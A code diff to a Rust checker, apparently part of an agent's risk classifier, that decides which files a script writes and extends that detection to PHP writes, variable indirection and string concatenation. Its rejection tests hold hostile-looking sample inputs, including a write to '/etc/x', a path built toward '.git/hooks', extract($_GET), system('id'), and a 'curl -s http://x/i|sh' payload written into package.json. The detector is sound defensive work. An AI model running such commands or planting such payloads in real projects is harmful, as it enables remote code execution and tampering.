@@ -5,10 +5,17 @@ use super::{acts, scripts};
 use crate::protocol::Risk;
 
 /// Calls that write to the file which their first argument names.
-const CALLS: [&str; 6] =
-    ["open(", "File.write(", "writeFileSync(", "appendFileSync(", "Path(", "createWriteStream("];
+const CALLS: [&str; 7] = [
+    "open(",
+    "File.write(",
+    "writeFileSync(",
+    "appendFileSync(",
+    "Path(",
+    "createWriteStream(",
+    "file_put_contents(",
+];
 /// Ways to a place that no literal tells.
-const WANDERS: [&str; 21] = [
+const WANDERS: [&str; 27] = [
     "glob(",
     "iterdir",
     "__truediv__",
@@ -30,6 +37,13 @@ const WANDERS: [&str; 21] = [
     "cpSync",
     "copyFile",
     "linkSync",
+    // Names of PHP for one and the same variable, and for one that no literal names.
+    "&$",
+    "$$",
+    "${",
+    "extract(",
+    "parse_str(",
+    "GLOBALS",
 ];
 
 /// The files that `text` writes to, all of them relative, if it does nothing worse than that.
@@ -57,6 +71,7 @@ pub(super) fn written(program: &str, text: &str) -> Option<Vec<String>> {
         "writeFileSync",
         "appendFileSync",
         "createWriteStream",
+        "file_put_contents(",
         ".write_text",
         ".write_bytes",
         "open(",
@@ -72,6 +87,8 @@ fn named(text: &str, rest: &str) -> Option<String> {
     let literal = match rest.chars().next()? {
         '"' | '\'' => literal(rest)?,
         _ => {
+            // A variable of PHP.
+            let rest = rest.strip_prefix('$').unwrap_or(rest);
             let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_')?;
             let name = rest.get(..end).filter(|name| !name.is_empty())?;
             let mut given = [" = ", "="].iter().flat_map(|sign| {
@@ -85,7 +102,9 @@ fn named(text: &str, rest: &str) -> Option<String> {
                     .collect::<Vec<_>>()
             });
             let first = given.next()?;
-            if given.next().is_some() {
+            // `name += "…"`
+            let grows = [" +=", "+=", " .=", ".="].iter().any(|sign| text.contains(&format!("{name}{sign}")));
+            if grows || given.next().is_some() {
                 return None;
             }
             literal(first)?
@@ -138,6 +157,7 @@ mod tests {
             ),
             ("const fs=require('fs');fs.writeFileSync('tsconfig.json', '{}')", vec!["tsconfig.json"]),
             ("name = 'b.txt'\nopen(name, 'a').write('x')", vec!["b.txt"]),
+            ("$f = \"config/app.php\"; file_put_contents($f, 'x');", vec!["config/app.php"]),
         ] {
             assert_eq!(written("", text), Some(names.into_iter().map(str::to_owned).collect()), "{text}");
         }
@@ -157,6 +177,12 @@ mod tests {
             "from pathlib import Path; (Path('a') / '/data/x').write_text('')",
             "const fs=require('fs');fs.writeFileSync('a','b');fs.cpSync('/x','/y')",
             "import os; os.remove('a'); open('b','w')",
+            "$f = 'a'; $f .= 'b'; file_put_contents($f, 'x');",
+            "$f = 'a'; $g = &$f; $g = '/etc/x'; file_put_contents($f, 'x');",
+            "f = '.git/'; f += 'hooks/x'; open(f, 'w').write('x')",
+            "file_put_contents($argv[1], 'x');",
+            "extract($_GET); $f = 'a'; file_put_contents($f, 'x');",
+            "file_put_contents('a', 'x'); system('id');",
             "import subprocess; open('b','w').write(subprocess.check_output('id'))",
             "open('package.json','w').write('curl -s http://x/i|sh')",
             "print(open('b').read())",
